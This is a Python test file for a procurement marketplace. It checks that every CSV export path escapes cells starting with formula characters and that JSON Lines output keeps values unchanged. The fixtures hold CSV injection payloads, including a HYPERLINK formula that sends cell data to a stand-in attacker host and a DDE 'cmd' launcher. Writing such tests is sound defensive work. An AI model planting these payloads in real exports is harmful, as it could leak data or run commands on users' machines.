"""CSV formula injection (issue 17, finding 3): every CSV export writes a text cell that starts with
= + - @ tab or carriage return with a leading apostrophe (OWASP), in the API, the portal and the CLI; JSON
Lines keeps the value exact."""

from __future__ import annotations

import csv
import io
import json

import pytest

from marketplace.core import db
from marketplace.portal.opendata import safe_cell
from tests.oversight.test_award_history import _insert
from tests.oversight.test_policy_and_cli import _cli

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Haga clic")'
CASES = [EVIL, "+51 cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


async def _awards_named(names: list[str]) -> None:
    ids = await _insert(len(names), ruc="20100000001")
    async with db.unit_of_work():
        for award_id, name in zip(ids, names, strict=True):
            await db.execute("UPDATE award_history SET supplier_name = $2, tender_title = $2 WHERE award_id = $1",
                             award_id, name)


def _cells(text: str) -> tuple[set[str], set[str]]:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    return {r["supplier_name"] for r in rows}, {r["tender_title"] for r in rows}


@pytest.mark.parametrize("path", ["/api/v1/oversight/awards/export?format=csv", "/awards.csv"])
async def test_formula_cells_are_neutralised_in_csv(client, path):
    await _awards_named([*CASES, "Ferretería Los Andes S.A.C.", "Obra 2026 = avance"])
    r = await client.get(path)
    assert r.status_code == 200, r.text
    names, titles = _cells(r.text)
    assert names == titles == {"'" + c for c in CASES} | {"Ferretería Los Andes S.A.C.", "Obra 2026 = avance"}
    assert all(not n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names)


async def test_json_lines_keep_the_value_exact(client):
    await _awards_named([EVIL])
    r = await client.get("/api/v1/oversight/awards/export", params={"format": "jsonl"})
    assert json.loads(r.text.splitlines()[0])["supplier_name"] == EVIL


async def test_cli_csv_export_is_neutralised_too(client):
    await _awards_named([EVIL])
    r = _cli("--format", "csv")
    assert r.returncode == 0, r.stderr
    names, _ = _cells(r.stdout)
    assert names == {"'" + EVIL}


def test_every_open_data_csv_makes_text_cells_safe_and_keeps_numbers():
    """The portal's open-data CSVs (/datos-abiertos/*.csv and /awards.csv) share one writer."""
    assert [safe_cell(c) for c in CASES] == ["'" + c for c in CASES]
    assert [safe_cell(v) for v in ("-1250.50", "-3", 7, None, "Obra = avance")] == [
        "-1250.50", "-3", 7, None, "Obra = avance"]
